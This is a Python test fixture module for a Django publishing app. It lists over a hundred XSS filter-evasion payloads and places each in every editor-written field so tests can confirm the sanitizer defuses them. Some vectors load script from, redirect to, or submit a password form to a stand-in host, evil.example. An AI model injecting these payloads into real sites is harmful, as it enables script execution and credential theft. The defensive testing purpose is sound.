"""A hostile editor's payloads: what the sanitizer and every field reaching HTML must survive.

Families from the PortSwigger XSS cheat sheet and the OWASP filter-evasion cheat sheet, plus the
cases that broke Byline before (entity-encoded markup before the first element, raw-text
openers). Each payload, if it came alive, would run ``alert(1)``, navigate away, or plant a form,
a frame or a ``javascript:`` link.
"""

import html
import itertools

from articles.links.models import RelatedLink
from articles.models import Article
from byline.models import SiteSettings
from tests.factories import (
    faq_block,
    make_article,
    make_category,
    make_image,
    make_related_link,
    make_tag,
    make_upload,
    make_user,
)

_sequence = itertools.count(1)

#: Markup an editor might type or paste into the body or any other field.
VECTORS: list[str] = [
    # Script and event handlers, the classic forms.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/xss>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="width:expression(alert(1))">x</div>',
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<dialog open onclose=alert(1)>x</dialog>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    # URLs that run script or carry a document.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    '<img srcset="javascript:alert(1) 1x" alt="x">',
    '<a href="jav&#x0A;ascript:alert(1)" title="x">x</a>',
    # Elements that navigate, frame, or plant a form.
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/login"><input name="password">'
    "<button>Sign in</button></form>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    # Raw-text elements that swallow the rest of the body, and breakouts from them.
    "<iframe><p>a</p><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<style><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "</ p><img src=x onerror=alert(1)>",
    # Entity-encoded, double-encoded and broken markup (the bug that was found).
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '&lt;meta http-equiv="refresh" content="0;url=https://evil.example"&gt;',
    '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;',
    "&lt;form action=https://evil.example&gt;&lt;button&gt;go&lt;/button&gt;&lt;/form&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&#060;script&#062;alert(1)&#060;/script&#062;",
    "&LT;img src=x onerror=alert(1)&GT;",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<a href="/x" title=\'"><img src=x onerror=alert(1)>\'>x</a>',
    '<a href="/x" title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<img src="/media/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
    '<img src="/media/a.jpg" alt="x" title="y" onerror=alert(1) style=x>',
    "<p>unclosed <b>bold <i>both</b> italic</i><img src=x onerror=alert(1)",
    "<a <img src=x onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)\x00>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<h2 id=comments onclick=alert(1)>Comments</h2><h2 id=main>Main</h2>",
]

#: Every vector once more, entity-encoded: it must stay visible text, never markup.
ENCODED_VECTORS: list[str] = [html.escape(vector) for vector in VECTORS[:20]]

ALL_VECTORS: list[str] = VECTORS + ENCODED_VECTORS


def in_body_contexts(vector: str) -> list[str]:
    """``vector`` placed where an editor's body can hold it: start, middle, headings, quotes,
    an FAQ block's question and answer."""
    attribute = html.escape(vector, quote=True)
    return [
        vector + "<p>after</p>",
        f"<p>before</p>{vector}<p>after</p>",
        f"<h2>{vector}</h2>",
        f"<blockquote><p>{vector}</p><p>— {vector}, role</p></blockquote>",
        f'<figure><img src="/media/x.jpg" alt="{attribute}"><figcaption>{vector}'
        "</figcaption></figure>",
        f'<p><a href="/x" title="{attribute}">{vector}</a></p>',
        f'<details class="faq"><summary>{vector}</summary><p>{vector}</p><ul><li>{vector}</li>'
        "</ul></details>",
        f'<details class="faq" open><summary>Q</summary><p>{vector}</p></details><p>after</p>',
    ]


def make_article_with_every_field(text: str, *, vectors: list[str] | None = None) -> Article:
    """A published article whose every editor-written field holds ``text``.

    Its category, tag, author name, body image alt text, inline and end related links and the
    linked article hold it too; the body holds ``text`` (or each of ``vectors``) in every body
    context, and each of them is also an FAQ block's question and answer typed as text.
    """
    n = next(_sequence)
    category = make_category(name=f"{text[:90]} c{n}", description=text)
    tag = make_tag(name=f"{text[:50]} t{n}")
    author = make_user(first_name=text[:150], last_name=text[:150])
    target = make_article(title=f"needle {text}"[:200], summary=text, category=category)
    article = make_article(
        title=f"needle {text}"[:200],
        summary=text,
        seo_title=text[:100],
        meta_description=text[:300],
        featured_image=make_upload(size=(640, 400)),
        featured_image_alt=text[:250],
        author=author,
        category=category,
        tags=[tag],
        body="<p>Draft.</p>",
    )
    image = make_image(file=make_upload(size=(640, 400)), alt=text[:250], caption=text)
    alt = html.escape(text[:250], quote=True)
    article.body = (
        "<h2>One</h2><p>First paragraph.</p><h2>Two</h2><h2>Three</h2>"
        f'<figure><img src="{image.url}" alt="{alt}"><figcaption>{text}</figcaption></figure>'
        + "".join(
            fragment for vector in (vectors or [text]) for fragment in in_body_contexts(vector)
        )
        + "".join(faq_block(vector, vector) for vector in (vectors or [text]))
    )
    article.save()
    make_related_link(
        source=article,
        target=target,
        anchor_text=text[:200],
        placement=RelatedLink.Placement.INLINE,
        after_paragraph=1,
    )
    make_related_link(source=target, target=article, anchor_text=text[:200])
    return article


def set_site_settings(text: str) -> SiteSettings:
    """The site settings row with ``text`` in every field an administrator writes."""
    site = SiteSettings.load()
    site.site_name = text[:100]
    site.tagline = text[:200]
    site.get_in_touch = text[:300]
    site.postal_address = text
    site.support_hours = text[:100]
    site.whatsapp_number = text[:32]
    site.save()
    return site
